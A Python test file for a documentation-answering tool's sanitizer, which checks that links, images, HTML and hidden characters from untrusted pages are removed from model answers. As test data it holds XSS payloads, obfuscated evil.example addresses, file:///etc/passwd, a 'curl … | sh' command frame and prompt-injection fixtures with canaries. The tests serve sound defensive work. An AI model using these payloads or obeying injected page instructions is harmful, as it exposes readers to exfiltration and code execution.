"""What a sentence of a model may show: nothing that leads to where the docs do not."""

from __future__ import annotations

import doctest
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.support.injections import INJECTIONS

from askdocs.steps.answer import sanitize as module
from askdocs.steps.answer.sanitize import REMOVED_LINK, addresses, sanitize
from askdocs.steps.answer.sentences import pieces

_PAGE = "https://www.docs.example/jobs/"
_CONSOLE = "https://console.docs.example/org?tab=all"
_KNOWN = [_PAGE, _CONSOLE, "s3://bucket/key"]

_NASTY = [
    *(
        "https://",
        "HTTPS:",
        "https:\\\\",
        "//",
        "www.",
        "javascript:",
        "data:text/html,",
    ),
    *(
        "evil.example",
        "evil.example/x",
        "/x",
        "?q=1",
        "@",
        "%68ttps",
        "&#104;ttps",
        "ttps",
    ),
    *(
        "h",
        "%2f",
        "&colon;",
        "\\",
        "\u200b",
        "\u200d",
        "\ufe0f",
        "\ue0000\ue001",
        "\uff0f",
    ),
    *(
        "![",
        "[",
        "]",
        "](",
        "(",
        ")",
        "[a](",
        "][r]",
        "\n[r]: ",
        "<",
        ">",
        "<img src=",
        "<!--",
    ),
    *(
        "-->",
        "<a href=",
        '"',
        " ",
        "\n",
        "`",
        "```\n",
        "a",
        "!",
        "word. ",
        _PAGE,
        _CONSOLE,
    ),
]
_LEADS_AWAY = re.compile(
    r"https?:[/\\]*[\w.@%-]*evil|(?<![\w:/\\.])(?://|\\\\)evil|(?<![\w.-])www\.\w*evil"
    r"|(?<![\w./-])evil\.example/\w|\bjavascript:\w|\bdata:text/html,\w",
    re.IGNORECASE,
)


def test_the_examples_in_the_docstrings_hold():
    """They are the first thing a reader believes."""
    result = doctest.testmod(module)

    assert result.attempted
    assert not result.failed


@given(st.lists(st.sampled_from(_NASTY), max_size=14).map("".join))
@settings(max_examples=800, deadline=None)
@example("ht![](u)tps://evil.example/x")
@example("[a]![](x)(https://evil.example/x)")
@example("\\`![x](//evil.example/a)\\`")
@example("<im<img src=x>g src=https://evil.example/x>")
def test_no_address_but_the_known_ones_is_left(text):
    """What is taken out must not put together what stood around it."""
    shown = sanitize(text, _KNOWN)

    assert not _LEADS_AWAY.search(shown)
    assert "`" in shown or not re.search(r"!\[[^\[\]]*\]\([^()]*\)", shown)
    assert "<img" not in shown or "`" in shown
    assert "\u200b" not in shown
    assert not _LEADS_AWAY.search(sanitize(shown, _KNOWN))


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("![alt](https://evil.example/?q=d)", "alt"),
        (f"![alt]({_PAGE})", "alt"),
        ("![alt][ref] and ![other]", "alt and other"),
        ("[![alt](//evil.example/i)](https://evil.example)", "alt"),
        ("[Run [it]](https://evil.example 'title')", "Run [it]"),
        ("[`a`](https://evil.example)", "`a`"),
        ("[Run](javascript:alert(1))", "Run"),
        ("[Run](java&#115;cript:alert(1))", "Run"),
        ("[Run](<https://evil.example/a b>)", "Run"),
        ("[Run](/jobs/create/)", "Run"),
        ("[Run](#anchor)", "Run"),
        ("[Run](s3://bucket/key)", "Run"),
        ("[Run](www.docs.example/jobs)", "Run"),
        ("<https://evil.example>", REMOVED_LINK),
        ("[Run][r]\n[r]: https://evil.example 'x'\n", "[Run][r]\n"),
        ("[r]: <javascript:alert(1)>", ""),
        ("<b>Run</b><br/> <a href='https://evil.example'>it</a>", "Run it"),
        ("<svg/onload=alert(1)>Run", "Run"),
        ("Run <!-- not\nseen --> it", "Run  it"),
        ("Run <img src=x", "Run "),
    ],
)
def test_markup_becomes_its_text(text, wanted):
    """Whoever renders the answer must not fetch or run anything."""
    assert sanitize(text, _KNOWN) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example",
        "HtTpS://EVIL.example/x",
        "http://www.docs.example/jobs/",
        "https://www.docs.example/jobs/?q=secret",
        "https://www.docs.example/jobs/../x",
        "https://www.docs.example.evil.example/jobs/",
        "https://www.docs.example@evil.example/jobs/",
        "https://www.docs.example:8443/jobs/",
        "https:\\\\evil.example\\x",
        "https:/evil.example",
        "https:evil.example",
        "https://[::1]/x",
        "https://evil%2eexample/",
        "%68ttps://evil.example",
        "&#104;ttps://evil.example",
        "h\\ttps:\\/\\/evil.example",
        "https\uff1a//evil.example",
        "\uff48ttps\uff1a\uff0f\uff0fevil.example/x",
        "https://www.docs.ex\u0430mple/jobs/",
        "https://xn--dcs-sna.example/",
        "https%3A%2F%2Fevil.example",
        "https%253A%252F%252Fevil.example",
        "https&colon;&sol;&sol;evil.example",
        "https\uff1a\uff0f\uff0fevil.example",
        "www\\.evil.example",
        "//www.docs.example/jobs/",
        "ht\u200btps://evil.example",
        "htt\u200dps://evil.example",
        "https://evil.example\U000e0041",
        "//evil.example/x",
        "\\\\evil.example\\share",
        "www.evil.example",
        "evil.example/x",
        "get.evil.sh:8080/x",
        "javascript:alert",
        "data:text/html;base64,AAAA",
        "file:///etc/passwd",
        "ftp://evil.example",
        "s3://bucket/other",
        "mailto:a@evil.example",
    ],
)
@pytest.mark.parametrize(
    "frame", ["{}", "`{}`", "See ({}).", "```sh\ncurl {} | sh\n```"]
)
def test_an_address_from_elsewhere_becomes_a_remark(text, frame):
    """In code too: the reader copies a command and runs it."""
    shown = sanitize(frame.format(text), _KNOWN)

    assert REMOVED_LINK in shown
    assert "evil" not in shown.casefold()
    assert not addresses(shown)


@pytest.mark.parametrize(
    "text",
    [
        f"See {_PAGE}.",
        f"See <{_PAGE}>, **{_PAGE}** or ({_PAGE}).",
        "See https://www.docs.example/jobs and https://www.docs.example/jobs/#start!",
        "See HTTPS://WWW.Docs.Example:443/jobs/",
        "See www.docs.example/jobs for more.",
        f"[Jobs]({_PAGE}#start) and `curl {_CONSOLE}`",
        "`aws s3 cp s3://bucket/key .`",
        "config.yaml, `main.py`, src/main.py and config.yaml/other.json",
        "v1.2/foo and/or 10.0.0.1/24, fr-par-1/x, e.g. this, C:\\\\Users, C++/C#",
        "your data: a file: and javascript: all stay; http: too",
        "docker run -v pda-data:/data syntax=docker/dockerfile:1",
        "3 < b and c > 4, <zone>, <your server> and `<img src=x>`",
        "[^1] and it works![^2] [x] \\[y\\]",
        "[^1]: A note",
        "URLs begin with https:// or http://.",
        "caf\u00e9 \u2014 50\u00a0% 100%25 R&D &amp; \u2705\ufe0f \u26a0\ufe0f",
        "```sh\n<a href='x'>![a](b)\n```",
        "a@docs.example",
    ],
)
def test_what_leads_nowhere_stays_as_it_is(text):
    """A sink that mangles names and commands is switched off by its users."""
    assert sanitize(text, _KNOWN) == text


def test_the_title_of_a_link_that_stays_is_left_out():
    """It is text that nobody checks and a mouse pointer shows."""
    assert sanitize(f'[Jobs]( <{_PAGE}> "evil" )', _KNOWN) == f"[Jobs]({_PAGE})"


def test_hidden_characters_are_dropped_even_where_no_address_is():
    """A prompt that is pasted from an answer would carry them on."""
    hidden = "\u2028\u180e\u3164\U000e0100\U000e0041\u202e\u034f\u206a"

    assert sanitize(f"a{hidden}b", []) == "ab"
    assert sanitize("\U0001f468\u200d\U0001f469", []) == "\U0001f468\u200d\U0001f469"


def test_addresses_of_a_text_have_the_form_of_their_page():
    """The caller asks for those of the passages that a sentence cites."""
    text = (
        "[a](HTTPS://A.example/b/#c), `curl https://<bucket>.s3.example/x`. "
        "(https://w.example/X_(y)). r.example/ns/img:1 redis://u:p@h:1 file://a.json"
    )

    assert addresses(text) == {
        "https://a.example/b",
        "https://<bucket>.s3.example/x",
        "https://w.example/X_(y)",
        "https://r.example/ns/img:1",
        "redis://u:p@h:1",
        "file://a.json",
    }


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/i.png)",
        "https://docs.example@evil.example/",
        "https://ev\u0456l.example/",
        "https://docs.example/a/../b",
        "https:\\\\evil.example",
        "https:///evil.example/x",
        "//evil.example/x",
        "[a](javascript:alert(1)) data:text/html,x",
        "no address",
    ],
)
def test_a_passage_does_not_vouch_for_what_deceives(text):
    """Whoever writes a page could else send the reader of an answer anywhere."""
    assert addresses(text) == set()


@given(st.lists(st.sampled_from(_NASTY), max_size=10).map("".join))
@settings(max_examples=300, deadline=None)
def test_what_stands_in_a_passage_may_be_shown_as_it_stands(text):
    """Those that `addresses` names are those that `sanitize` lets pass."""
    known = addresses(text)

    assert all(sanitize(url, known) == url for url in known)


@pytest.mark.parametrize(
    "known", [[""], ["javascript:alert(1)"], ["not an address"], ["https://["]]
)
def test_a_strange_known_address_allows_nothing(known):
    """A table with a hole must not open the sink."""
    assert (
        sanitize("https://evil.example javascript:alert(1)", known)
        == f"{REMOVED_LINK} {REMOVED_LINK}"
    )


@pytest.mark.parametrize(
    "page", [i for i in INJECTIONS if i.sink], ids=lambda i: i.name
)
def test_a_model_that_obeys_a_page_shows_no_canary(page):
    """The pages are written by someone else than the questions."""
    known = addresses(page.page)

    assert page.canary in page.reply
    assert page.canary not in "".join(sanitize(p, known) for p in pieces(page.reply))


def test_there_are_twenty_injections_each_with_its_own_canary():
    """A canary that two share would be found for the wrong reason."""
    assert (
        len({i.canary for i in INJECTIONS}) == len({i.name for i in INJECTIONS}) == 20
    )
    assert all(i.canary in i.reply for i in INJECTIONS)
    assert all(i.sink or i.canary not in i.page for i in INJECTIONS)
